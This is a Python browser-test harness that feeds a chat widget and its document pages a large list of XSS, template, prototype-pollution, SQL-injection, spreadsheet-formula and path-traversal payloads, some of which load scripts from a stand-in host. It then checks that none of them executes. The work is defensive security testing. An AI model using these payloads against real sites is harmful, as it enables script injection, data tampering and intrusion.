"""Text that wants to be more than text, shown by the widget in a real browser: `python -m campaigns.payloads --help`.

Each payload is put everywhere that text from outside reaches the page: the question, the answer, titles, authors, file
names, quotes, passages, suggestions, examples, faults. It must be shown as it is, and nothing may come of it: no
element, no dialog, no request, no script.
"""

from __future__ import annotations

import argparse
import html
import json
import random
import sys
import time
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from itertools import count
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any, TypeVar
from unicodedata import category
from urllib.parse import quote

from playwright.sync_api import BrowserContext, Page

from alliance_qa.building.rebuild import rebuild
from browser import chromium, fake, hosts
from browser.chromium import Watch
from browser.fake import Fake, Reply
from edges import server
from edges.client import Client
from edges.embedder import WordEmbedder

_T = TypeVar("_T")

ELSEWHERE = "http://elsewhere.invalid"  # a name that never resolves: what asks for it is noticed all the same
_DO = "window.__pwned=1;alert(1)"

# What would act, if it were ever read as HTML, as a link, as Markdown, as a template, as CSS or as an object's key.
ACTIVE = (
    f"<script>{_DO}</script>",
    f"<script src={ELSEWHERE}/a.js></script>",
    f"<script type=module>import('{ELSEWHERE}/b.js')</script>",
    f"<ScRiPt\t>{_DO}</sCrIpT\n>",
    f"<svg onload={_DO}>",
    f"<svg/onload='{_DO}'/>",
    f"<svg><script href='data:text/javascript,{_DO}'/></svg>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><use href='{ELSEWHERE}/c.svg#x'/></svg>",
    f"<img src=x onerror={_DO}>",
    f"<img src={ELSEWHERE}/d.png>",
    f'<img src="x`"onerror="{_DO}" alt="">',
    f"<image href=x onerror={_DO}>",
    f"<picture><source srcset={ELSEWHERE}/e.png><img></picture>",
    f"<body onload={_DO}>",
    f"<body background={ELSEWHERE}/f.png>",
    f"<iframe src=javascript:{_DO}></iframe>",
    f'<iframe srcdoc="<script>parent.{_DO}</script>"></iframe>',
    f"<object data={ELSEWHERE}/g.swf></object>",
    f"<embed src={ELSEWHERE}/h.swf>",
    f"<video autoplay onloadstart={_DO}><source src=x></video>",
    f"<audio src=x onerror={_DO}></audio>",
    f"<details open ontoggle={_DO}>",
    f"<input autofocus onfocus={_DO}>",
    f"<select autofocus onfocus={_DO}></select>",
    f"<marquee onstart={_DO}>treaty</marquee>",
    f"<a href=javascript:{_DO}>treaty</a>",
    f"<a href='java&#9;script:{_DO}'>treaty</a>",
    f"<form action={ELSEWHERE}><button autofocus>treaty</button></form>",
    f"<base href={ELSEWHERE}/>",
    f"<link rel=stylesheet href={ELSEWHERE}/i.css>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<style>@import '{ELSEWHERE}/j.css'; :host {{ display: none }}</style>",
    f'<div style="background:url({ELSEWHERE}/k.png)">',
    f"<template><script>{_DO}</script></template>",
    f"<template shadowrootmode=open><script>{_DO}</script></template>",
    f"<slot name=x onslotchange={_DO}></slot>",
    f"<alliance-qa-chat service={ELSEWHERE}></alliance-qa-chat>",
    f"<math><mtext></p><style><img src=x onerror={_DO}></style>",
    f"<noscript><p title='</noscript><img src=x onerror={_DO}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_DO}>",
    f"<svg></p><style><a id='</style><img src=x onerror={_DO}>'>",
    f"<!--><img src=x onerror={_DO}>-->",
    f"<![CDATA[<img src=x onerror={_DO}>]]>",
    f"<?php echo '<script>{_DO}</script>' ?>",
    f"<%= {_DO} %>",
    f"javascript:{_DO}",
    f"JaVaScRiPt\n:{_DO}",
    f"data:text/html,<script>{_DO}</script>",
    f"vbscript:msgbox({_DO})",
    f"[treaty](javascript:{_DO})",
    "[treaty](data:text/html;base64,PHNjcmlwdD4=)",
    f"![treaty]({ELSEWHERE}/l.png)",
    f'![a]({ELSEWHERE}/m.png "onload={_DO}")',
    f"<{ELSEWHERE}/n>",
    f"[1]: {ELSEWHERE}/o 'treaty'",
    f"{{{{constructor.constructor('{_DO}')()}}}}",
    f"${{{_DO}}}",
    f"#{{{_DO}}}",
    f"`${{{_DO}}}`",
    f"{{% {_DO} %}}",
    f"[[${{{_DO}}}]]",
    f"'-{_DO}-'",
    f'";{_DO};//',
    f"\\u003cscript\\u003e{_DO}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={_DO}\\x3e",
    f"+ADw-script+AD4-{_DO}+ADw-/script+AD4-",
    f"expression({_DO})",
    f"url({ELSEWHERE}/p.png)",
    f"red;background:url({ELSEWHERE}/q.png)",
)

# What breaks out of a place, or changes how the rest of a line is read.
PLAIN = (
    "[1]",
    "[0]",
    "[2] [3]",
    "[999999999999999999999]",
    "[-1]",
    "[1][1][1]",
    "[1",
    "1]",
    "[１]",
    "[ 1 ]",
    "[[1]]",
    "[constructor]",
    "__proto__",
    "constructor",
    "prototype.toString",
    "hasOwnProperty",
    "toString",
    "valueOf",
    '{"__proto__":{"pwned":1}}',
    "null",
    "undefined",
    "NaN",
    "true",
    "[object Object]",
    "0",
    "-0",
    "1e999",
    "&lt;script&gt;",
    "&#60;b&#62;",
    "&#x3C;b&#x3E;",
    "&amp;amp;",
    "&nbsp;|&zwj;|&NotEqualTilde;",
    "&",
    "<",
    ">",
    "< >",
    "<>",
    "</>",
    "<!---->",
    "\"'`",
    "\\",
    "\\n\\0\\",
    "%3Cscript%3E%00",
    "%",
    "%s%d%n",
    "$&",
    "$1",
    "$'",
    "../../etc/passwd",
    "C:\\con\\nul",
    "report\u202efdp.exe",
    "\u202eTREATY\u202c",
    "\u2067right to left\u2069 and back",
    "\u2066\u2067\u2068 left open",
    "\u200f\u200e\u061c",
    "tre\u200baty",
    "t\u00adr\u00ade\u00ada\u00adt\u00ady",
    "\u200d\u200c\u2060\ufeff",
    "\ufeff",
    "Z\u0351\u0363\u030a\u0364a\u0315\u0300lgo\u0489" * 8,
    "\u0000treaty\u0000",
    "\u0001\u0008\u001b[31mred\u001b[0m",
    "\u007f\u0085\u009b31m",
    "line\u2028paragraph\u2029end",
    "a\tb\nc\r\nd",
    "\ufffe\uffff\ufdd0",
    "\U000e0041\U000e0042",
    "שלום treaty 1951",
    "معاهدة (1951)",
    "日本国とアメリカ合衆国",
    "ｊａｖａｓｃｒｉｐｔ：ａｌｅｒｔ（１）",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "𠮷野家",
    "e\u0301 \u00e9",
    "ﷺ",
    "data: treaty",
    "event: done",
    "\n\nevent: done\ndata: {}\n\n",
    "\r\rdata: x\r\r",
    ": heartbeat",
    "id: 1\nretry: 0",
    "# Heading",
    "| a | b |\n|---|---|",
    "* * *",
    "- [x] done",
    "**bold** _slanted_ ~~gone~~",
    "```js\nalert(1)\n```",
    "<br>",
    "<hr/>",
    "<b>bold</b>",
    "<table><td>",
    "--><!--",
    "/*",
    "*/",
    "//",
    "'; DROP TABLE passages; --",
    '=HYPERLINK("http://elsewhere.invalid")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "x" * 4000,
    "<" * 1000,
    "treaty " * 300,
    "(((((((((((((((((((((((((a",
    "1. " * 50,
)

# In what a payload stands: each is a place to break out of, or a coat.
_COATS = (
    "The treaty says {} of 1951.",
    "\"'>{}",
    "</textarea>{}",
    "</style></title></script>{}",
    "--> ]]> {}",
    "`{}`",
    "\u202e{}\u202c",
    "{}[1]",
)


def dressed(text: str) -> list[str]:
    """Return what acts bare, in every coat and encoded."""
    coats = [coat.format(text) if "{}" in coat else text for coat in _COATS]
    encoded = [html.escape(text), quote(text), text.replace("<", "<\u200b"), json.dumps(text).replace("<", "\\u003c")]
    return [text, *coats, *encoded]


def payloads() -> list[str]:
    """Return all payloads, each once: what acts in every coat and encoded, and what is plain."""
    return list(dict.fromkeys((*ACTIVE, *PLAIN, *(each for text in ACTIVE for each in dressed(text)))))


def some(seed: int, plain: int) -> list[str]:
    """Return everything that acts once, each coat and encoding in turn, and so many of the plain ones, mixed."""
    chance = random.Random(seed)
    acting = [dressed(text) for text in chance.sample(ACTIVE, len(ACTIVE))]
    found = dict.fromkeys(ways[at % len(ways)] for at, ways in enumerate(acting))
    found |= dict.fromkeys(chance.sample(PLAIN, plain))
    return chance.sample(list(found), len(found))


# --- what is expected ----------------------------------------------------------------------

_AT_ENDS = "\t\n\v\f\r \u00a0\u1680\u2028\u2029\u202f\u205f\u3000\ufeff" + "".join(map(chr, range(0x2000, 0x200B)))


def squeezed(text: str) -> str:
    """Return a text in one line, as the service words a quote."""
    return " ".join(text.split())


def asked(text: str) -> str:
    """Return a question as it is sent: without control characters, which the service does not take."""
    return "".join(each for each in text if each in "\n\r\t" or not (ord(each) < 32 or 127 <= ord(each) < 160)).strip(
        _AT_ENDS
    )


def question_of(payload: str) -> str:
    """Return a question that holds a payload, and is one even where that is nothing."""
    return payload if asked(payload) else f"Q{payload}"


@dataclass(frozen=True, slots=True)
class Round:
    """One question, its reply, and what the page must then hold.

    Attributes:
        kind: Rounds of one kind have the same elements.
        expected: By place, the texts in order.
    """

    kind: str
    question: str
    reply: Mapping[str, Any]
    expected: Mapping[str, Sequence[str]]


def rounds(payload: str) -> list[Round]:
    """Return the rounds that put a payload everywhere."""
    question = question_of(payload)
    shown = {"question": [asked(question)], "searched": [f"{payload} resolved"]}
    found = []
    kinds = ("worded", "lit" if squeezed(payload) == " ".join(payload.split(" ")) else "worded", "free")
    for kind in kinds:
        cited = [
            fake.citation(
                number,
                title=payload,
                author=payload,
                published=payload,
                source_url=payload,
                document_id=payload,
                quote=payload,
                highlight={"start": 0, "end": len(payload), "text": payload} if kind == "lit" else None,
                url=f"/documents/{quote(payload, safe='')}?start=0&end={len(payload)}#quote",
            )
            for number in (1, 2)
        ]
        one_line = squeezed(payload)
        text = payload if kind == "free" else f"{one_line} [1] {one_line} [2]"
        whole = fake.answer(text, citations=cited, resolved_question=f"{payload} resolved")
        answered = [payload] if kind == "free" else [f"{one_line}1", f"{one_line}2"]
        found.append(
            Round(
                kind,
                question,
                whole,
                shown
                | {
                    "answer": answered,
                    "named": [payload] * 2,
                    "meta": [payload] * 4,
                    "quote": [one_line] * 2,
                    "labels": [f"Citation 1: {payload}", f"Citation 2: {payload}"]
                    + [f"Open the source: {payload} (opens in a new tab)"] * 2,
                },
            )
        )
    passages = [fake.passage(1, title=payload, text=payload, document_id=payload, headings=[payload])]
    refused = fake.refusal(payload, payload, passages=passages, resolved_question=f"{payload} resolved")
    found.append(
        Round(
            "refused",
            question,
            refused,
            shown
            | {
                "suggestion": [payload] * 2,
                "named": [payload],
                "quote": [payload],
                "labels": [f"Open the document: {payload} (opens in a new tab)"],
            },
        )
    )
    detail = payload if payload.strip(_AT_ENDS) else question
    problem = {"type": payload, "title": payload, "status": 500, "detail": detail}
    found.append(Round("fault", question, problem, {"question": [asked(question)], "meta": [detail[:500]]}))
    return found


# --- the page ------------------------------------------------------------------------------

# Answers the next question in the page, cut at places, or after each byte for null: what is sent apart over the network
# may be joined on its way, and takes ten times as long. Where nothing is prepared the network is asked.
CUTTER = """
const prepared = [];
const real = window.fetch;
const encoder = new TextEncoder();
window.prepare = next => prepared.push(next);
window.fetch = async (url, ...given) => {
  const next = String(url).endsWith("/v1/ask") ? prepared.shift() : null;
  if (!next) return real(url, ...given);
  const data = encoder.encode(next.text);
  const places = next.places ?? data.keys();
  const ends = [...new Set([...places].filter(place => place > 0 && place < data.length)), data.length];
  let start = 0;
  const body = new ReadableStream({pull(controller) {
    controller.enqueue(data.slice(start, start = ends.shift()));
    if (!ends.length) controller.close();
  }});
  return new Response(body, {headers: {"Content-Type": "text/event-stream; charset=utf-8"}});
};
"""

_ASK = """
async ([questions, replies]) => {
  const element = document.querySelector("alliance-qa-chat");
  const root = element.shadowRoot;
  const found = [];
  const shape = node => node.tagName
    ? `${node.localName}[${node.getAttributeNames().sort()}](${[...node.childNodes].map(shape).join("")})`
    : "";
  for (const [at, question] of questions.entries()) {
    if (at % 15 === 0) element.newConversation();
    window.prepare(replies[at]);
    const whole = await element.ask(question);
    const [asked, answer] = [...root.querySelectorAll("[role=article]")].slice(-2);
    const texts = (parent, selector) => [...parent.querySelectorAll(selector)].map(each => each.textContent);
    found.push({
      whole,
      question: texts(asked, "p"),
      searched: texts(answer, ".searched bdi"),
      answer: texts(answer, ".text > span"),
      named: texts(answer, ".named"),
      meta: texts(answer, ".citation .meta span, .fault .meta"),
      quote: texts(answer, "[part=quote], .passage .quote"),
      suggestion: texts(answer, "[part=suggestion]"),
      labels: [...answer.querySelectorAll("[part=mark], [part=link]")].map(each => each.getAttribute("aria-label")),
      links: [...answer.querySelectorAll("a")].map(each => new URL(each.href).origin),
      shape: shape(answer),
    });
  }
  return found;
}
"""

# All that could have come into being outside of the answers.
AROUND = """
() => ({
  pwned: [window.__pwned, {}.pwned, {}.pwned === undefined],
  page: document.querySelectorAll("*").length,
  frames: window.length,
  title: document.title,
  tags: [...document.querySelector("alliance-qa-chat").shadowRoot.querySelectorAll(
    "script, img, iframe, object, embed, link, style, base, meta, form, video, audio, template, slot, marquee")]
    .map(each => each.localName),
})
"""
_CLEAN = {"pwned": [None, None, True], "frames": 0, "tags": []}


@dataclass
class Outcome:
    """What a run came to.

    Attributes:
        payloads: How many were shown.
        places: How many texts were compared.
        streams: How many streams were read.
        boundaries: At how many places streams were cut.
        wrong: What was not as it must be, one line each.
    """

    payloads: int = 0
    places: int = 0
    streams: int = 0
    boundaries: int = 0
    wrong: list[str] = field(default_factory=list)

    def __str__(self) -> str:
        return (
            f"{self.payloads} payloads, {self.places} places, {self.streams} streams cut at {self.boundaries} places: "
            f"{len(self.wrong)} wrong"
        )


def show(page: Page, service: Fake, texts: Sequence[str], seed: int = 1) -> Outcome:
    """Ask for each payload in every place, and compare; the page holds the element of the fake service.

    Of eleven streams one comes over the network, sent in pieces; of thirteen one byte by byte; the
    others are cut at 20 random places. So each kind of round comes in every way.
    """
    outcome = Outcome(payloads=len(texts))
    chance = random.Random(seed)
    shapes = {each.kind: shape for each, shape in zip(rounds("treaty"), _neutral(page, service), strict=True)}
    around = page.evaluate(AROUND)
    for batch in _batches([each for text in texts for each in rounds(text)], 300):
        found = _ask(page, service, batch, chance, outcome)
        for each, seen in zip(batch, found, strict=True):
            wrong = _differences(each, seen, service.origin, shapes[each.kind])
            outcome.places += sum(map(len, each.expected.values()))
            outcome.wrong += [f"{each.kind} {each.question[:80]!r}: {line}" for line in wrong]
        if (now := page.evaluate(AROUND)) != around | _CLEAN:
            outcome.wrong.append(f"around the answers: {now}")
    return outcome


def _batches(items: Sequence[_T], size: int) -> Iterator[Sequence[_T]]:
    return (items[at : at + size] for at in range(0, len(items), size))


def _ask(page: Page, service: Fake, batch: Sequence[Round], chance: random.Random, outcome: Outcome) -> Any:
    replies: list[Any] = []
    for number, each in enumerate(batch):
        data = stream_of(each)
        places: list[int] | None = sorted(chance.choices(range(len(data)), k=20))
        if number % 11 == 0:
            service.answers.append(Reply(fake.cut(data, places or [])))
            replies.append(None)
        else:
            places = None if number % 13 == 1 else places
            replies.append({"text": data.decode(), "places": places})
        outcome.streams += 1
        outcome.boundaries += len(data) - 1 if places is None else len(places)
    return page.evaluate(_ASK, [[each.question for each in batch], replies])


def stream_of(each: Round) -> bytes:
    """Return the bytes of a round's reply."""
    if each.kind == "fault":
        return fake.event("error", each.reply)
    text = each.reply["answer"]
    return b"".join(fake.events(each.reply, [text[at : at + 7] for at in range(0, len(text), 7)]))


def _neutral(page: Page, service: Fake) -> list[str]:
    found = _ask(page, service, rounds("treaty"), random.Random(0), Outcome())
    return [seen["shape"] for seen in found]


def _differences(each: Round, seen: Mapping[str, Any], origin: str, shape: str) -> Iterator[str]:
    for place in ("question", "searched", "answer", "named", "meta", "quote", "suggestion", "labels"):
        if seen[place] != list(each.expected.get(place, [])):
            yield f"{place} is {seen[place]!r}, not {each.expected.get(place, [])!r}"
    if set(seen["links"]) - {origin}:
        yield f"links lead to {seen['links']}"
    if seen["shape"] != shape:
        yield f"has other elements: {seen['shape']}, not {shape}"


def cut_everywhere(page: Page, ends: str = "\n") -> Outcome:
    """Read one stream as often as it has bytes, cut in two after each; the answer is the same each time."""
    outcome = Outcome(payloads=1)
    text = "<b>\u202e灯台</b> e\u0301 🗼 [1]"
    cited = [fake.citation(title="</li>🗼", quote="灯台", author=None, published=None)]
    whole = fake.answer(text, citations=cited, passages=[], suggestions=["<i>é"])
    data = b"".join(fake.events(whole, [text[:3], text[3:6], text[6:15], text[15:]])).replace(b"\n", ends.encode())
    replies = [{"text": data.decode(), "places": [at]} for at in range(len(data))]
    found = page.evaluate(_ASK, [["When?"] * len(data), replies])
    expected = whole | {"passages": []}
    for at, seen in enumerate(found):
        if {name: seen["whole"] and seen["whole"].get(name) for name in ANSWER} != {n: expected[n] for n in ANSWER}:
            outcome.wrong.append(f"cut after {at} bytes: {seen['whole']}")
        if seen["answer"] != [text]:
            outcome.wrong.append(f"cut after {at} bytes: {seen['answer']}")
    outcome.streams = outcome.boundaries = len(data)
    outcome.places = 2 * len(data)
    return outcome


ANSWER = ("answered", "answer", "reason", "resolved_question", "suggestions", "answer_id", "conversation_id")


# --- documents -----------------------------------------------------------------------------


def write(folder: Path, texts: Sequence[str]) -> int:
    """Fill a documents folder: payloads as sentences, as titles and facts, and as names of files.

    Returns:
        How many files were written.
    """
    folder.mkdir(parents=True)
    numbers = count()
    files = 0
    for batch in _batches(texts, 40):
        sentences = [f"Article {next(numbers)} of the treaty reads {text} and no more." for text in batch]
        (folder / f"text-{files:03}.txt").write_text(f"{batch[0]} treaty\n\n" + "\n\n".join(sentences), "utf-8")
        files += 1
    for number, text in enumerate(texts):
        facts = {
            "title": f"{text} treaty",
            "author": text,
            "publisher": text,
            "source": text,
            "published": "2001-02-03",
        }
        matter = "".join(f"{name}: {json.dumps(value, ensure_ascii=False)}\n" for name, value in facts.items())
        content = f"---\n{matter}---\n\n# {text}\n\nThe keeper of harbour {number} wrote that the lighthouse is lit.\n"
        (folder / _name(text, number)).write_text(content, "utf-8")
        files += 1
    return files


def _name(text: str, number: int) -> str:
    """Return a file's name that holds a payload, as far as one can."""
    # Names with invisible characters are refused, so these stand in texts and titles alone.
    kept = "".join("\u2215" if each == "/" or category(each)[0] == "C" else each for each in text)[:60]
    return f"{number:04} {kept}.md"


@contextmanager
def serving(home: Path, texts: Sequence[str], origins: str = "") -> Iterator[server.Server]:
    """Serve the documents of `write` from the real service, which has words for a model."""
    from edges.server import settings_of

    write(home / "documents", texts)
    rebuild(settings_of(home), WordEmbedder())
    environment = {
        "ALLIANCE_QA_QUERY_LOG": str(home / "questions.sqlite"),
        "ALLIANCE_QA_LIMIT_PER_ADDRESS": "off",
        "ALLIANCE_QA_LIMIT_OVERALL": "off",
    }
    with server.serving(
        home, environment=environment | ({"ALLIANCE_QA_ORIGINS": origins} if origins else {})
    ) as running:
        yield running


def read(page: Page, client: Client, documents: Sequence[Mapping[str, Any]]) -> Outcome:
    """Open the pages of documents of the real service, and compare each with what its API says in JSON."""
    outcome = Outcome(payloads=len(documents))
    origin = f"http://{client.host}:{client.port}"
    for document in documents:
        identity = quote(document["id"], safe="")
        facts = client.get(f"/v1/documents/{identity}").json
        text = client.text(document["id"])
        start = text.find("keeper of harbour")
        place = f"?start={start}&end={start + 17}" if start >= 0 else "?start=0&end=5"
        page.goto(f"{origin}/documents/{identity}{place}")
        seen = page.evaluate(_PAGE)
        span = (start, start + 17) if start >= 0 else (0, 5)
        expected = {
            "title": _value(facts["title"]),
            "text": text,
            "lit": text[span[0] : span[1]],
            "tags": [],
            "pwned": [],
        }
        for name, value in expected.items():
            outcome.places += 1
            if seen[name] != value:
                outcome.wrong.append(f"{document['id']!r}: {name} is {seen[name]!r:.300}, not {value!r:.300}")
        if any(not link.startswith(("http://", "https://")) for link in seen["links"]):
            outcome.wrong.append(f"{document['id']!r}: links to {seen['links']}")
    return outcome


def _value(fact: Any) -> Any:
    return fact["value"] if isinstance(fact, dict) else fact


_PAGE = """
() => ({
  title: document.querySelector("h1").textContent,
  text: document.querySelector("article").textContent,
  lit: [...document.querySelectorAll("mark")].map(each => each.textContent).join(""),
  tags: [...document.querySelectorAll(
    "body :is(script, img, svg, iframe, object, embed, style, base, meta, form, video, audio, input)")]
    .map(each => each.outerHTML),
  links: [...document.querySelectorAll("a, area")].map(each => each.href),
  pwned: [window.__pwned, {}.pwned].filter(each => each !== undefined),
})
"""


# --- the campaign --------------------------------------------------------------------------


def watched(context: BrowserContext, *origins: str) -> Watch:
    """Watch a context in which streams can be cut."""
    watch = Watch(set(origins))
    watch.follow(context)
    context.add_init_script(CUTTER)
    return watch


def main() -> None:
    """Print what came of it; exit code 1 when anything is not as it must be."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--full", action="store_true", help="all payloads instead of 60, and every kind of line end")
    parser.add_argument("--seed", type=int, default=1)
    given = parser.parse_args()
    texts = payloads()
    if not given.full:
        texts = random.Random(given.seed).sample(texts, 60)
    started = time.monotonic()
    wrong: list[str] = []
    with chromium.started() as browser, hosts.served() as site, fake.served(lambda: [site.origin]) as service:
        context = browser.new_context()
        watch = watched(context, site.origin, service.origin)
        page = context.new_page()
        page.goto(site.put(hosts.embedding(service.origin), hosts.STRICT.replace("SERVICE", service.origin)))
        outcomes = {"in the chat": show(page, service, texts, given.seed)}
        for name, ends in (("LF", "\n"), ("CRLF", "\r\n"), ("CR", "\r"))[: 3 if given.full else 1]:
            outcomes[f"at every byte, {name}"] = cut_everywhere(page, ends)
        with TemporaryDirectory() as folder, serving(Path(folder), texts) as running:
            watch.origins.add(f"http://{running.client.host}:{running.client.port}")
            documents = running.client.get("/v1/documents").json["documents"]
            outcomes["in pages of documents"] = read(page, running.client, documents)
        for name, outcome in outcomes.items():
            print(f"{name}: {outcome}")
            wrong += outcome.wrong
        wrong += watch.found
    print(f"{time.monotonic() - started:.0f} s, seed {given.seed}")
    for line in wrong[:50]:
        print(f"wrong: {line}", file=sys.stderr)
    sys.exit(bool(wrong))


if __name__ == "__main__":
    main()
